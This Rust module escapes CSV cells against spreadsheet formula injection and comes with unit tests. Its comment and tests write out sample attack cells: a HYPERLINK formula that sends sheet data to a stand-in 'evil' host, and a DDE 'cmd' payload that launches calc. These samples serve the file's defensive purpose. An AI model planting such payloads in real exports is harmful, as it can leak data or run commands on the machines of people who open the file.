//! CSV cells that are safe to open in a spreadsheet (CSV/formula injection).
//!
//! Excel, LibreOffice and Google Sheets run a cell that starts with `=`, `+`, `-` or `@` as a
//! formula (and tab or carriage return can hide such a start), so a display name such as
//! `=HYPERLINK("http://evil/?"&A1)` in a CSV m365sync writes could send the sheet's data
//! elsewhere when an admin opens it. Following OWASP's recommendation, such a cell is written
//! with a single quote in front (`'=HYPERLINK(...)`), which spreadsheets show as text. The
//! `csv` crate then quotes the cell as CSV needs. Every CSV m365sync writes goes through
//! [`cell`] or [`write_row`]: the password hand-off, the errors export, `users --csv`.
//!
//! The cost: a script reading one of those CSVs sees the quote (`'-Ann`); the value was
//! never a number or a formula m365sync meant. Generated passwords never start with these
//! characters (`sync::password::generate`), so a password cell is never changed.
use std::borrow::Cow;

/// The characters that make a spreadsheet treat a cell as a formula, when first.
pub const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// The cell as written: unchanged (borrowed) unless it starts with one of [`FORMULA_START`],
/// then with a `'` in front.
pub fn cell(s: &str) -> Cow<'_, str> {
    if s.starts_with(FORMULA_START) {
        Cow::Owned(format!("'{s}"))
    } else {
        Cow::Borrowed(s)
    }
}

/// Writes one record, every cell through [`cell`].
pub fn write_row<W, I, S>(w: &mut csv::Writer<W>, cells: I) -> csv::Result<()>
where
    W: std::io::Write,
    I: IntoIterator<Item = S>,
    S: AsRef<str>,
{
    let row: Vec<String> = cells
        .into_iter()
        .map(|c| cell(c.as_ref()).into_owned())
        .collect();
    w.write_record(&row)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_starts_get_a_quote() {
        for (raw, safe) in [
            ("=1+1", "'=1+1"),
            ("+1", "'+1"),
            ("-1", "'-1"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            (
                "=HYPERLINK(\"http://x/?\"&A1)",
                "'=HYPERLINK(\"http://x/?\"&A1)",
            ),
        ] {
            assert_eq!(cell(raw), safe, "{raw:?}");
            assert!(matches!(cell(raw), Cow::Owned(_)));
        }
    }

    #[test]
    fn anything_else_is_unchanged_and_not_copied() {
        for s in [
            "",
            "ann@contoso.com",
            "Ann Lee",
            "a=b",
            "1-2",
            " =1",
            "'=already",
            "Kq7#pw",
            "true",
            "Ünïcode",
        ] {
            assert!(matches!(cell(s), Cow::Borrowed(b) if b == s), "{s:?}");
        }
    }

    #[test]
    fn rows_are_escaped_then_quoted_as_csv_needs() {
        let mut w = csv::Writer::from_writer(Vec::new());
        write_row(&mut w, ["=cmd|' /C calc'!A0", "a,b", "plain", "-\"x\""]).unwrap();
        let out = String::from_utf8(w.into_inner().unwrap()).unwrap();
        assert_eq!(out, "'=cmd|' /C calc'!A0,\"a,b\",plain,\"'-\"\"x\"\"\"\n");
        // Read back, each value is the escaped text.
        let mut r = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(out.as_bytes());
        let rec = r.records().next().unwrap().unwrap();
        assert_eq!(&rec[0], "'=cmd|' /C calc'!A0");
        assert_eq!(&rec[3], "'-\"x\"");
    }
}
